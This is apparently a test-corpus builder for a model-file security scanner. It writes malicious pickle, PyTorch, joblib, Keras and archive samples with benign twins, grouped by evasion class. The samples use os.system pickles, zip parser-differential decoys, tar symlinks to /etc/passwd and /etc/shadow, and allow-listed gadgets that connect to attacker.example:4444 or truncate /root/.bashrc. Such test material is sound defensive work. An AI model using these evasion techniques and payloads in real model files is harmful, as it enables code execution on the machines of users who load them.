"""An attacker's corpus: malicious samples by evasion class, each with benign twins.

``build_attack_corpus(dest)`` writes every sample to ``dest/<technique>/<file name>``
(the file name matters: ``tokenizer_config.json``, ``model.safetensors``...) and
returns one ``Sample`` per file. Classes (a red-team's misses, by cause):

1. a trusted extension on a pickle      6. dangerous callables judged "unknown"
2. parser differentials                 7. other formats (templates, ONNX, Keras, npy)
3. compressed layers                    8. shipped Python that hides its calls
4. legacy PyTorch, data after STOP      9. unverifiable content
5. allow-listed names that are gadgets  "bomb": must stay cheap under one budget

``expect`` says what a correct scanner reports for the file: "high+" (a finding at
high or critical), "medium+" (at least medium: suspicious), "clean" (nothing at medium
or above) or "below-high" (benign but odd: a low or medium note is fair, high is a
false positive). Unverifiable content (class 9) and bombs are "high+": a file nobody
could check is not passed (tests/evidence/serialization/test_attacks.py holds every
malicious sample to high at the default threshold).

Built from opcodes and raw bytes; pickle.dumps, zipfile, tarfile and the stdlib
compressors only *write*. Files that need a real library writer are committed in
tests/data/generated/ (make_attack_samples.py). Nothing is ever loaded.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from tests.evidence.serialization.attack_builders import (
    BENIGN_P0,
    BENIGN_P2,
    BENIGN_P4,
    CMD,
    EVIL_P0,
    EVIL_P2,
    EVIL_P4,
    Entry,
    Piece,
    Raw,
    RepeatedDeflate,
    TarItem,
    apply,
    assemble,
    build,
    call,
    compressed,
    eocd,
    gguf_file,
    glob,
    gz,
    joblib_compat,
    json_bytes,
    legacy_tar,
    legacy_torch,
    msgpack_map,
    npy,
    onnx_graph,
    onnx_graph_attr,
    onnx_model,
    onnx_node,
    onnx_sparse,
    onnx_tensor,
    onnx_tensor_attr,
    pb,
    pk,
    plain_zip,
    proto,
    rar5_encrypted,
    stack_global,
    tar_of,
    text,
    torch_state,
    torch_zip,
    val,
    zip64_end,
    zip_crypto,
    zip_of,
    zstd_raw_frame,
)

GENERATED = Path(__file__).parents[2] / "data" / "generated"
HIGH, MEDIUM, CLEAN, NOT_HIGH = "high+", "medium+", "clean", "below-high"
EXPECTS = (HIGH, MEDIUM, CLEAN, NOT_HIGH)
CLASSES: tuple[int | str, ...] = (1, 2, 3, 4, 5, 6, 7, 8, 9, "bomb")
Data = bytes | Path | Callable[[Path], None]


@dataclass(frozen=True)
class Sample:
    """One file of the corpus and what a correct scanner must say about it."""

    path: Path
    technique: str
    klass: int | str
    malicious: bool
    expect: str
    description: str


class _Corpus:
    def __init__(self, dest: Path) -> None:
        self.dest = dest
        self.klass: int | str = 1
        self.samples: list[Sample] = []
        self.seen: set[str] = set()

    def add(
        self,
        technique: str,
        name: str,
        data: Data,
        expect: str,
        description: str,
        malicious: bool = True,
    ) -> None:
        assert technique not in self.seen, f"duplicate technique {technique}"
        assert expect in EXPECTS, expect
        assert malicious == (expect in (HIGH, MEDIUM)) or self.klass == "bomb", technique
        self.seen.add(technique)
        folder = self.dest / technique
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / name
        if isinstance(data, bytes):
            path.write_bytes(data)
        elif isinstance(data, Path):
            shutil.copyfile(data, path)
        else:
            data(path)
        self.samples.append(Sample(path, technique, self.klass, malicious, expect, description))

    def twin(
        self, technique: str, name: str, data: Data, description: str, expect: str = CLEAN
    ) -> None:
        """The benign twin of ``technique`` (id ``technique~benign``, or a suffix)."""
        self.add(technique + "~benign", name, data, expect, description, malicious=False)


def _evil_call(module: str, name: str, *args: Any) -> bytes:
    """A protocol-4 pickle calling module.name(*args)."""
    return pk(call(module, name, *args))


# The class bodies below are tables of samples: one ``add`` per sample, kept compact.
# fmt: off


# --- 1. trusted extensions ---------------------------------------------------------------
EVIL_P1 = glob("os", "system") + b"(X" + struct.pack("<I", len(CMD)) + CMD.encode() + b"tR."


def _object_array_body(*items: Any) -> bytes:
    """What np.save writes after the header of an object array: a pickle of the array."""
    array = np.empty(len(items), dtype=object)
    for i, item in enumerate(items):
        array[i] = item
    return pickle.dumps(array, protocol=3)


def _onnx_plain() -> bytes:
    relu = onnx_node("Relu", ["x"], ["y"])
    return onnx_model(onnx_graph("main", [relu], [onnx_tensor("w")]))


def class1(c: _Corpus) -> None:
    c.klass = 1
    c.add("ext.safetensors-pickle", "model.safetensors", EVIL_P2, HIGH,
          "protocol-2 pickle calling os.system, named .safetensors")
    c.add("ext.safetensors-pickle-p0", "model.safetensors", EVIL_P0, HIGH,
          "protocol-0 pickle (no PROTO magic byte) named .safetensors")
    c.add("ext.safetensors-torchzip", "model.safetensors", torch_zip(EVIL_P2), HIGH,
          "PyTorch zip checkpoint with a malicious data.pkl, named .safetensors")
    c.twin("ext.safetensors-pickle", "model.safetensors", GENERATED / "model.safetensors",
           "real safetensors file (safetensors.numpy.save_file)")
    c.add("ext.onnx-torchzip", "model.onnx", torch_zip(EVIL_P4), HIGH,
          "PyTorch zip checkpoint named .onnx")
    c.add("ext.onnx-pickle-p0", "model.onnx", EVIL_P0, HIGH, "protocol-0 pickle named .onnx")
    c.twin("ext.onnx-torchzip", "model.onnx", _onnx_plain(), "valid ONNX model, one Relu")
    c.add("ext.msgpack-pickle", "flax_model.msgpack", EVIL_P4, HIGH,
          "protocol-4 pickle named like a Flax msgpack checkpoint")
    c.twin("ext.msgpack-pickle", "flax_model.msgpack",
           msgpack_map({"kernel": b"\x00" * 16, "bias": b"\x00" * 8}), "real msgpack map")
    c.add("ext.sav-pickle-p0", "model.sav", EVIL_P0, HIGH,
          "protocol-0 pickle with the .sav extension scikit-learn tutorials use")
    c.twin("ext.sav-pickle-p0", "model.sav", BENIGN_P0, "protocol-0 pickle of plain data")
    c.add("ext.txt-pickle-p0", "notes.txt", EVIL_P0, HIGH, "protocol-0 pickle named .txt")
    c.twin("ext.txt-pickle-p0", "notes.txt", b"Training notes: 3 epochs, lr 1e-3.\n",
           "plain text notes")
    c.add("ext.json-pickle", "weights.json", EVIL_P2, HIGH, "protocol-2 pickle named .json")
    c.twin("ext.json-pickle", "weights.json", json_bytes({"w": [1.0, 2.0]}), "real JSON")
    c.add("ext.npy-object-pickle", "array.npy", npy("'|O'", (2,), EVIL_P2), HIGH,
          "npy v1 object array whose body is a malicious pickle")
    c.add("ext.npy-object-pickle-v3", "array.npy", npy("'|O'", (2,), EVIL_P4, version=3), HIGH,
          "npy v3.0 (utf-8 header) object array whose body is a malicious pickle")
    c.twin("ext.npy-object-pickle", "array.npy",
           npy("'|O'", (3,), _object_array_body("cat", 1, None)),
           "npy object array of plain values (what np.save writes)")
    c.add("ext.noext-pickle-p1", "pytorch_model", EVIL_P1, HIGH,
          "protocol-1 pickle without an extension")
    c.twin("ext.noext-pickle-p1", "pytorch_model", pickle.dumps(["a", 1], protocol=1),
           "protocol-1 pickle of plain data without an extension")
    c.add("ext.h5-pickle-p0", "model.h5", EVIL_P0, HIGH, "protocol-0 pickle named .h5")
    c.add("ext.gguf-pickle", "model.gguf", EVIL_P2, HIGH, "protocol-2 pickle named .gguf")
    c.add("ext.noproto-p4", "flax_model.msgpack", EVIL_P4[2:], HIGH,
          "protocol-4 opcodes without the PROTO opcode (no magic number), named .msgpack")
    c.twin("ext.noproto-p4", "notes.md", b"# Notes\n\nVersion 2 of the model.\n",
           "Markdown notes")


# --- 2. parser differentials -------------------------------------------------------------
def _two_views(good: bytes, evil: bytes) -> tuple[bytes, bytes, bytes]:
    """Local entries for a benign and a malicious data.pkl plus shared members; the
    central directory of each view (decoy: benign, real: malicious)."""
    good_e, evil_e = Entry("archive/data.pkl", good), Entry("archive/data.pkl", evil)
    common = [Entry("archive/byteorder", b"little"), Entry("archive/version", b"3\n")]
    body, offsets = assemble([good_e, evil_e, *common])
    shared = common[0].central(offsets[2]) + common[1].central(offsets[3])
    return body, good_e.central(offsets[0]) + shared, evil_e.central(offsets[1]) + shared


def zip64_decoy(good: bytes, evil: bytes) -> bytes:
    """Classic EOCD -> decoy directory; the zip64 record (read first by Python and
    miniz) -> the real one."""
    body, decoy, real = _two_views(good, evil)
    real_at = len(body) + len(decoy)
    tail = zip64_end(3, len(real), real_at, real_at + len(real))
    return body + decoy + real + tail + eocd(3, len(decoy), len(body))


def zip64_only(payload: bytes) -> bytes:
    """A zip whose classic EOCD is all 0xFFFF..: only the zip64 record locates the CD."""
    entries = [Entry("archive/data.pkl", payload), Entry("archive/version", b"3\n")]
    body, offsets = assemble(entries)
    central = b"".join(e.central(o) for e, o in zip(entries, offsets, strict=True))
    tail = zip64_end(2, len(central), len(body), len(body) + len(central))
    classic = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                          0xFFFFFFFF, 0)
    return body + central + tail + classic


def zip64_pointer(good: bytes, evil: bytes) -> bytes:
    """Two zip64 records: Python reads the one just before the locator (decoy), miniz
    the one the locator points to (real)."""
    body, decoy, real = _two_views(good, evil)
    decoy_at, real_at = len(body), len(body) + len(decoy)
    pointed_at = real_at + len(real)

    def record(size: int, offset: int) -> bytes:
        return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 3, 3, size, offset)

    records = record(len(real), real_at) + record(len(decoy), decoy_at)
    locator = struct.pack("<IIQI", 0x07064B50, 0, pointed_at, 1)
    classic = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                          0xFFFFFFFF, 0)  # fmt: skip
    return body + decoy + real + records + locator + classic


def two_eocd(good: bytes, evil: bytes) -> bytes:
    """Decoy directory + EOCD, then the real directory + EOCD at the end of the file."""
    body, decoy, real = _two_views(good, evil)
    first = decoy + eocd(3, len(decoy), len(body))
    return body + first + real + eocd(3, len(real), len(body) + len(first))


def eocd_in_comment(good: bytes, evil: bytes) -> bytes:
    """The decoy EOCD's comment holds the real directory and the real (last) EOCD."""
    body, decoy, real = _two_views(good, evil)
    real_at = len(body) + len(decoy) + 22
    comment = real + eocd(3, len(real), real_at)
    return body + decoy + eocd(3, len(decoy), len(body), comment)


def keras_zip(config: bytes) -> bytes:
    return zip_of({
        "metadata.json": b'{"keras_version": "3.4.1", "date_saved": "2024-05-01@12:00:00"}',
        "config.json": config,
        "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 56,
    }, zipfile.ZIP_DEFLATED)


def keras_config(layer: str = "Lambda", module: str = "keras.layers") -> dict[str, Any]:
    inner: dict[str, Any] = {"name": "l", "units": 2}
    if layer == "Lambda":
        code = {"code": "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAA", "defaults": None}
        inner = {"name": "l", "function": {"class_name": "__lambda__", "config": code}}
    return {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "seq", "layers": [
            {"module": module, "class_name": layer, "registered_name": None, "config": inner}]},
    }


JUNK = b"#!/bin/sh\n# self-extracting model bundle\n" + b"x" * 983


def _int_trick(prefix: bytes, body: bytes = EVIL_P0) -> bytes:
    """``prefix`` (pushes an int), POP, then a protocol-0 stream."""
    return prefix + b"0" + body


def class2(c: _Corpus) -> None:
    c.klass = 2
    good = torch_state()
    c.add("zip.zip64-locator-decoy", "model.pt", zip64_decoy(good, EVIL_P2), HIGH,
          "classic EOCD lists a benign data.pkl; the zip64 record (what loaders read) a "
          "malicious one")
    c.add("zip.zip64-only", "model.pt", zip64_only(EVIL_P2), HIGH,
          "classic EOCD fields are 0xFFFF..: only the zip64 EOCD locates the directory")
    c.twin("zip.zip64-only", "model.pt", zip64_only(good), "the same zip64 layout, benign")
    c.add("zip.two-eocd", "model.pt", two_eocd(good, EVIL_P2), HIGH,
          "two central directories and EOCDs; the last (what loaders read) is malicious")
    c.add("zip.eocd-in-comment", "model.pt", eocd_in_comment(good, EVIL_P2), HIGH,
          "a decoy EOCD whose comment holds the real directory and EOCD")
    c.twin("zip.two-eocd", "model.pt", torch_zip(good), "clean torch-style zip, one EOCD")
    lam_keras = keras_zip(json.dumps(keras_config()).encode())
    c.add("zip.prepended-junk-keras", "model.keras", JUNK + lam_keras, HIGH,
          "1 KB of shell text before a .keras zip with a Lambda (offsets not corrected: "
          "Python's zipfile fixes them up)")
    c.add("zip.prepended-pickle-zip", "model.zip",
          BENIGN_P2 + zip_of({"model.pkl": EVIL_P2}, zipfile.ZIP_DEFLATED), HIGH,
          "a benign pickle, then a zip whose model.pkl is malicious (zipfile reads the zip)")
    c.add("zip.prepended-junk-zip", "model.zip", JUNK + zip_of({"model/data.pkl": EVIL_P0}),
          HIGH, "1 KB of text before a stored zip with a protocol-0 malicious pickle")
    c.twin("zip.prepended-junk-keras", "model.keras",
           JUNK + keras_zip(json.dumps(keras_config("Dense")).encode()),
           "text prepended to a benign .keras (Dense only)", NOT_HIGH)
    common = {"archive/byteorder": b"little", "archive/version": b"3\n"}
    c.add("zip.case-upper-p0", "model.pt",
          zip_of({"archive/data.pkl": good, "archive/DATA.PKL": EVIL_P0, **common}), HIGH,
          "archive/data.pkl benign, archive/DATA.PKL (protocol 0) malicious; miniz lookups "
          "ignore case")
    c.add("zip.case-only-upper", "model.pt", zip_of(
        {"ARCHIVE/DATA.PKL": EVIL_P0, "ARCHIVE/VERSION": b"3\n"}, zipfile.ZIP_DEFLATED),
        HIGH, "only upper-case names, deflated protocol-0 payload")
    c.add("zip.case-mixed", "model.pt",
          zip_of({"archive/data.pkl": good, "archive/Data.Pkl": EVIL_P2, **common}), HIGH,
          "archive/Data.Pkl malicious beside a benign archive/data.pkl")
    c.twin("zip.case-upper-p0", "model.pt",
           zip_of({"archive/data.pkl": good, "archive/DATA.PKL": BENIGN_P0, **common}),
           "two case-variant names, both benign", NOT_HIGH)
    version = Entry("archive/version", b"3\n")
    c.add("zip.local-name-mismatch", "model.pt", plain_zip(
        [Entry("archive/data.pkl", EVIL_P0, local_name="archive/notes.txt"), version]), HIGH,
        "central directory says archive/data.pkl, the local header archive/notes.txt")
    c.add("zip.local-size-zero", "model.pt", plain_zip(
        [Entry("archive/data.pkl", EVIL_P0, local_sizes=(0, 0)), version]), HIGH,
        "local header sizes are 0 (streaming readers see an empty member)")
    shadow = [Entry("archive/data.pkl", good), Entry("archive/data.pkl", EVIL_P2)]
    body, offsets = assemble(shadow)
    central = shadow[1].central(offsets[1])
    c.add("zip.shadow-local-header", "model.pt",
          body + central + eocd(1, len(central), len(body)), HIGH,
          "two local headers named archive/data.pkl; the directory lists only the second "
          "(malicious)")
    c.twin("zip.local-name-mismatch", "model.pt",
           plain_zip([Entry("archive/data.pkl", good), version]),
           "hand-assembled zip, headers agree")
    link, sym = tarfile.LNKTYPE, tarfile.SYMTYPE
    c.add("tar.hardlink-alias", "model.tar", tar_of([
        TarItem("model/readme.txt", EVIL_P0),
        TarItem("model/data.pkl", kind=link, link="model/readme.txt")]), HIGH,
        "hard link model/data.pkl -> model/readme.txt, which holds a protocol-0 pickle")
    c.add("tar.symlink-alias", "model.tar", tar_of([
        TarItem("blobs/7f3a9c", EVIL_P0),
        TarItem("model/pytorch_model.bin", kind=sym, link="../blobs/7f3a9c")]), HIGH,
        "symlink model/pytorch_model.bin -> ../blobs/7f3a9c (a protocol-0 pickle)")
    c.add("tar.symlink-etc-passwd", "model.tar", tar_of([
        TarItem("model/config.json", kind=sym, link="/etc/passwd"),
        TarItem("model/weights.bin", b"\x00" * 64)]), HIGH,
        "symlink model/config.json -> /etc/passwd (a host file exposed after extraction)")
    c.add("tar.hardlink-outside", "model.tar", tar_of([
        TarItem("model/vocab.txt", kind=link, link="../../../../etc/shadow")]), HIGH,
        "hard link to ../../../../etc/shadow")
    c.add("tar.symlink-dir-escape", "model.tar", tar_of([
        TarItem("model/cache", kind=sym, link="../../../root"),
        TarItem("model/cache/.bashrc", CMD.encode() + b"\n")]), HIGH,
        "symlinked folder model/cache -> ../../../root, then a file written through it")
    c.twin("tar.symlink-alias", "model.tar", tar_of([
        TarItem("blobs/7f3a9c", torch_zip(good)),
        TarItem("model/pytorch_model.bin", kind=sym, link="../blobs/7f3a9c")]),
        "HF-cache style relative symlink to a benign blob", NOT_HIGH)
    c.add("hdf5.userblock-lambda", "model.h5", GENERATED / "keras_userblock_lambda.h5", HIGH,
          "Keras .h5 with a Lambda layer after a 512-byte HDF5 user block")
    polyglot = bytearray((GENERATED / "keras_userblock_clean.h5").read_bytes())
    polyglot[: len(EVIL_P2)] = EVIL_P2
    c.add("hdf5.userblock-pickle-polyglot", "model.pkl", bytes(polyglot), HIGH,
          "valid HDF5 whose user block is a malicious pickle (pickle/HDF5 polyglot)")
    c.twin("hdf5.userblock-lambda", "model.h5", GENERATED / "keras_userblock_clean.h5",
           "Keras .h5 (Dense) after a 512-byte user block")
    c.add("pickle.int-base0-hex", "model.pkl", _int_trick(b"I0x1\n"), HIGH,
          "INT 0x1 (the unpickler parses base 0; pickletools does not), then os.system")
    c.add("pickle.long-base0-octal", "model.pkl", _int_trick(b"L0o17L\n"), HIGH,
          "LONG 0o17L, then os.system")
    c.add("pickle.int-underscore", "model.pkl", _int_trick(b"I1_000\n"), HIGH,
          "INT 1_000 (underscores accepted), then os.system")
    memo = b"Vos\np 1\n0Vsystem\np1_0\n0g1\ng10\n\x93(V" + CMD.encode() + b"\ntR."
    c.add("pickle.memo-key-format", "model.pkl", memo, HIGH,
          "PUT ' 1' / '1_0' and GET 1 / 10: memo keys only equal as integers")
    c.add("zip.zip64-locator-pointer", "model.pt", zip64_pointer(good, EVIL_P2), HIGH,
          "the zip64 record before the locator (Python) lists a benign data.pkl; the one the "
          "locator points to (miniz) a malicious one")
    c.add("tar.gz-symlink-etc", "model.tar.gz", gz(tar_of([
        TarItem("model/tokenizer.json", kind=sym, link="/etc/passwd"),
        TarItem("model/data.pkl", BENIGN_P2)])), HIGH,
        "tar.gz whose tokenizer.json is a symlink to /etc/passwd")
    c.twin("tar.gz-symlink-etc", "model.tar.gz", gz(tar_of([
        TarItem("model/blobs/a1", BENIGN_P2),
        TarItem("model/data.pkl", kind=sym, link="blobs/a1")])),
        "tar.gz with a relative symlink to a benign member", NOT_HIGH)
    c.twin("pickle.int-base0-hex", "model.pkl", _int_trick(b"I0x1\n", BENIGN_P0),
           "INT 0x1, then a benign protocol-0 pickle")


# --- 3. compressed layers ----------------------------------------------------------------
def class3(c: _Corpus) -> None:
    c.klass = 3
    for kind in ("zlib", "gzip", "bz2", "lzma", "xz"):
        c.add(f"joblib.{kind}", "model.joblib", compressed(kind, EVIL_P4), HIGH,
              f"joblib file compressed with {kind} (joblib sniffs the magic)")
        c.twin(f"joblib.{kind}", "model.joblib", GENERATED / f"joblib_{kind}.joblib",
               f"joblib.dump(..., compress=('{kind}', 3)) of numpy arrays")
    c.add("joblib.gzip-named-pkl", "model.pkl", compressed("gzip", EVIL_P2), HIGH,
          "gzip joblib named .pkl (joblib.load ignores the name)")
    c.add("joblib.compat-zf", "model.joblib", joblib_compat(EVIL_P2), HIGH,
          "joblib < 0.10 'ZF' header + zlib: still loaded by joblib.load")
    for ext, kind in (("gz", "gzip"), ("xz", "xz"), ("bz2", "bz2")):
        c.add(f"pandas.pkl-{ext}", f"frame.pkl.{ext}", compressed(kind, EVIL_P4), HIGH,
              f"pandas.read_pickle infers {kind} from .pkl.{ext}")
        c.twin(f"pandas.pkl-{ext}", f"frame.pkl.{ext}", GENERATED / f"pandas_frame.pkl.{ext}",
               f"DataFrame.to_pickle(.pkl.{ext})", NOT_HIGH)
    c.add("pandas.pkl-zip", "frame.pkl.zip",
          zip_of({"frame.pkl": EVIL_P0}, zipfile.ZIP_DEFLATED), HIGH,
          "pandas .pkl.zip: one deflated protocol-0 member")
    evil_npy = npy("'|O'", (2,), EVIL_P2)
    plain_npy = npy("'<f4'", (4,), b"\x00" * 16)
    good_npy = npy("'|O'", (3,), _object_array_body("cat", 1, None))
    for method, label in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        c.add(f"npz.{label}-member", "arrays.npz",
              zip_of({"a.npy": plain_npy, "o.npy": evil_npy}, method), HIGH,
              f".npz whose object-array member is {label}-compressed (method {method})")
        c.twin(f"npz.{label}-member", "arrays.npz",
               zip_of({"a.npy": plain_npy, "o.npy": good_npy}, method),
               f".npz with {label} members, object array of plain values")
    c.add("gzip.second-member", "frame.pkl.gz", gz(BENIGN_P4) + gz(EVIL_P0), HIGH,
          "two gzip members: a benign pickle, then a malicious one (gzip readers go on)")
    c.twin("gzip.second-member", "frame.pkl.gz", gz(BENIGN_P4) + gz(BENIGN_P2),
           "two gzip members, both benign pickles")
    c.add("zip.bzip2-pickle", "model.zip", zip_of({"model.pkl": EVIL_P2}, zipfile.ZIP_BZIP2),
          HIGH, "zip member model.pkl compressed with bzip2 (method 12)")
    lzma_keras = zip_of({"metadata.json": b'{"keras_version": "3.4.1"}',
                         "config.json": json.dumps(keras_config()).encode()}, zipfile.ZIP_LZMA)
    c.add("zip.lzma-keras-config", "model.keras", lzma_keras, HIGH,
          ".keras whose config.json (Lambda layer) is LZMA-compressed (method 14)")


# --- 4. legacy PyTorch and data after STOP ------------------------------------------------
def _joblib_wrapper(nested: bytes, after: bytes = b"") -> bytes:
    """joblib's layout for an object array: NumpyArrayWrapper + BUILD, then the array as a
    nested pickle (joblib.load reads it), then the rest of the outer stream."""
    wrapper = build(
        Raw(stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"),
        {"subclass": stack_global("numpy", "ndarray"), "shape": (3,), "order": "C",
         "dtype": call("numpy", "dtype", "O8", False, True), "allow_mmap": False,
         "numpy_array_alignment_bytes": 16},
    )
    return proto(4) + b"}(" + text("labels") + wrapper + nested + after + b"u."


def class4(c: _Corpus) -> None:
    c.klass = 4
    c.add("legacy.payload-in-magic", "pytorch_model.bin", legacy_torch(magic=EVIL_P2), HIGH,
          "legacy torch.save: the 1st pickle (magic number) is malicious")
    c.add("legacy.payload-in-protocol", "pytorch_model.bin", legacy_torch(protocol=EVIL_P2),
          HIGH, "legacy torch.save: the 2nd pickle (protocol version) is malicious")
    c.add("legacy.payload-in-sys-info", "pytorch_model.bin", legacy_torch(sys_info=EVIL_P2),
          HIGH, "legacy torch.save: the 3rd pickle (sys_info) is malicious")
    main = torch_state(protocol_op=False)[:-2] + text("hook") + glob("os", "system")
    main += val(CMD) + b"\x85Ru."
    c.add("legacy.main-without-proto", "pytorch_model.bin", legacy_torch(main=main), HIGH,
          "legacy torch.save: main pickle without PROTO, os.system inside the state dict")
    c.add("legacy.payload-in-storage-keys", "pytorch_model.bin", legacy_torch(keys=EVIL_P2),
          HIGH, "legacy torch.save: the 5th pickle (storage keys) is malicious")
    c.twin("legacy.payload-in-magic", "pytorch_model.bin", legacy_torch(),
           "hand-assembled legacy torch.save, all five pickles benign")
    c.twin("legacy.torch-save", "pytorch_model.bin", GENERATED / "torch_state_legacy.bin",
           "real torch.save(..., _use_new_zipfile_serialization=False)")
    empty = pickle.dumps(0, protocol=2)
    c.add("legacy-tar.pickle-member", "model.tar", legacy_tar(main=EVIL_P2), HIGH,
          "oldest torch tar format: the 'pickle' member is malicious")
    c.add("legacy-tar.storages-second-pickle", "model.tar",
          legacy_tar(storages=empty + EVIL_P0), HIGH,
          "oldest torch tar format: 2nd pickle of 'storages' (protocol 0) is malicious")
    c.add("legacy-tar.tensors-member", "model.tar", legacy_tar(tensors=EVIL_P0), HIGH,
          "oldest torch tar format: the 'tensors' member (protocol 0) is malicious")
    c.twin("legacy-tar.pickle-member", "model.tar", legacy_tar(),
           "oldest torch tar format, benign")
    c.add("trailing.pkl-after-stop", "model.pkl", BENIGN_P4 + EVIL_P0, HIGH,
          "a benign protocol-4 pickle, then a protocol-0 malicious one after its STOP")
    c.add("trailing.torchzip-data-pkl", "model.pt", torch_zip(torch_state() + EVIL_P2), HIGH,
          "torch zip whose data.pkl has a second, malicious pickle after the state dict")
    c.add("trailing.legacy-after-storages", "pytorch_model.bin", legacy_torch(tail=EVIL_P2),
          HIGH, "legacy torch.save with a malicious pickle after the storage bytes")
    c.add("trailing.npy-after-data", "array.npy", npy("'<f4'", (4,), b"\x00" * 16) + EVIL_P2,
          HIGH, "float npy with a malicious pickle after the array data")
    nested = _object_array_body("cat", "dog", None)
    after = text("hook") + bytes(call("os", "system", CMD))
    c.add("trailing.joblib-after-nested", "model.joblib", _joblib_wrapper(nested, after), HIGH,
          "joblib object array: the outer stream goes on after the nested pickle's STOP and "
          "calls os.system")
    c.add("trailing.many-pickles", "model.pkl", BENIGN_P2 * 80 + EVIL_P0, HIGH,
          "80 benign pickles back to back, then a malicious one")
    c.twin("trailing.many-pickles", "model.pkl", BENIGN_P2 * 3,
           "three benign pickles back to back")
    c.twin("trailing.joblib-after-nested", "model.joblib",
           GENERATED / "joblib_object_array.joblib",
           "real joblib.dump of an object array (nested pickle inside)")


# --- 5. allow-listed names that are gadgets ----------------------------------------------
def _ndarray_wrapper(filename: str) -> bytes:
    wrapper = build(Raw(stack_global("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81"),
                    {"filename": filename, "subclass": stack_global("numpy", "ndarray"),
                     "allow_mmap": False})
    return pk(Raw(b"}(" + text("w") + wrapper + b"u"))


def class5(c: _Corpus) -> None:
    c.klass = 5
    sk, tc = "sklearn.callback._transport", "sklearn.externals.array_api_compat.torch"
    c.add("gadget.sklearn-mp-client", "model.pkl",
          _evil_call(sk, "Client", ("attacker.example", 4444)), HIGH,
          f"{sk}.Client is multiprocessing.connection.Client: connects out on load")
    c.add("gadget.sklearn-mp-listener", "model.pkl",
          _evil_call(sk, "Listener", ("0.0.0.0", 4444)), HIGH,
          f"{sk}.Listener is multiprocessing.connection.Listener: binds a port")
    c.add("gadget.sklearn-namedtemporaryfile", "model.pkl", _evil_call(
        "sklearn.datasets._base", "NamedTemporaryFile", "w", -1, None, None, ".pth", "zz",
        "/usr/lib/python3/dist-packages", False), HIGH,
        "sklearn.datasets._base.NamedTemporaryFile is tempfile's: drops a .pth file")
    c.add("gadget.sklearn-gzipfile-truncate", "model.pkl", _evil_call(
        "sklearn.datasets._covtype", "GzipFile", "/root/.bashrc", "wb"), HIGH,
        "sklearn.datasets._covtype.GzipFile is gzip.GzipFile: truncates a file")
    c.add("gadget.sklearn-joblib-memory", "model.pkl", _evil_call(
        "sklearn.datasets._lfw", "Memory", "/tmp/og-cache"), HIGH,
        "sklearn.datasets._lfw.Memory is joblib.Memory: creates a cache folder")
    c.add("gadget.sklearn-torch-filewriter", "model.pkl",
          _evil_call(tc, "PyTorchFileWriter", "/root/.bashrc"), HIGH,
          f"{tc}.PyTorchFileWriter is torch's: creates/truncates any file")
    c.add("gadget.sklearn-torch-compilationunit", "model.pkl", _evil_call(
        tc, "CompilationUnit", "def f(x: int) -> int:\n    return x\n"), HIGH,
        f"{tc}.CompilationUnit is torch.jit's: compiles TorchScript on load")
    c.add("gadget.joblib-ndarraywrapper-abs", "model.joblib",
          _ndarray_wrapper("/tmp/uploads/evil.npy"), HIGH,
          "joblib NDArrayWrapper: joblib.load np.loads this absolute path, allow_pickle=True")
    c.add("gadget.joblib-ndarraywrapper-traversal", "model.joblib",
          _ndarray_wrapper("../../../../home/user/.cache/evil.npy"), HIGH,
          "joblib NDArrayWrapper with a ../ sidecar path, loaded with allow_pickle=True")
    c.add("gadget.joblib-numpyarraywrapper-object", "model.joblib",
          _joblib_wrapper(EVIL_P2), HIGH,
          "joblib NumpyArrayWrapper(dtype=object): joblib.load unpickles what follows, here "
          "os.system")
    c.add("gadget.torch-nn-functional-build", "model.pkl", pk(build(
        stack_global("torch.nn.modules.activation", "F"),
        {"relu": stack_global("collections", "Counter")})), HIGH,
        "torch.nn.modules.activation.F is torch.nn.functional: BUILD rewrites F.relu")
    c.add("gadget.torch-rebuild-from-type", "model.pkl", _evil_call(
        "torch._utils", "_rebuild_from_type_v2",
        stack_global("sklearn.datasets._covtype", "GzipFile"),
        stack_global("torch", "Tensor"), ("/root/.bashrc", "wb"), {}), HIGH,
        "allowed _rebuild_from_type_v2 calls its 1st argument: GzipFile truncates a file")
    c.twin("gadget.sklearn-mp-client", "model.joblib", GENERATED / "sklearn_pipeline.joblib",
           "real joblib.dump of a StandardScaler + LogisticRegression pipeline")
    scaler = build(Raw(stack_global("sklearn.preprocessing._data", "StandardScaler") + b")\x81"),
                   {"with_mean": True, "with_std": True, "copy": True})
    c.twin("gadget.sklearn-estimator", "model.pkl", pk(scaler),
           "hand-built StandardScaler (NEWOBJ + BUILD of its params)")
    c.twin("gadget.torch-optimizer", "optimizer.pt", GENERATED / "torch_optimizer.pt",
           "real torch.save of an Adam optimizer state_dict")
    c.twin("gadget.torchscript-traced", "model.pt", GENERATED / "torchscript_traced.pt",
           "real torch.jit.trace(...).save(...)")


# --- 6. dangerous callables judged "unknown" today ----------------------------------------
SITE = "/tmp/uploads"
SRC = f"__import__('os').system({CMD!r})"
DANGEROUS: tuple[tuple[str, bytes, str], ...] = (
    ("uuid-get-command-stdout", _evil_call("uuid", "_get_command_stdout", "sh", "-c", CMD),
     "uuid._get_command_stdout runs any executable"),
    ("imaplib-imap4-stream", _evil_call("imaplib", "IMAP4_stream", CMD),
     "imaplib.IMAP4_stream runs its argument with shell=True"),
    ("logging-config-dictconfig", _evil_call("logging.config", "dictConfig", {
        "version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": CMD}}}),
     "logging.config.dictConfig '()' factory resolves and calls subprocess.getoutput"),
    ("logging-config-fileconfig", _evil_call("logging.config", "fileConfig", f"{SITE}/x.ini"),
     "logging.config.fileConfig evals handler args from a file"),
    ("site-addsitedir", _evil_call("site", "addsitedir", SITE),
     "site.addsitedir runs the import lines of .pth files"),
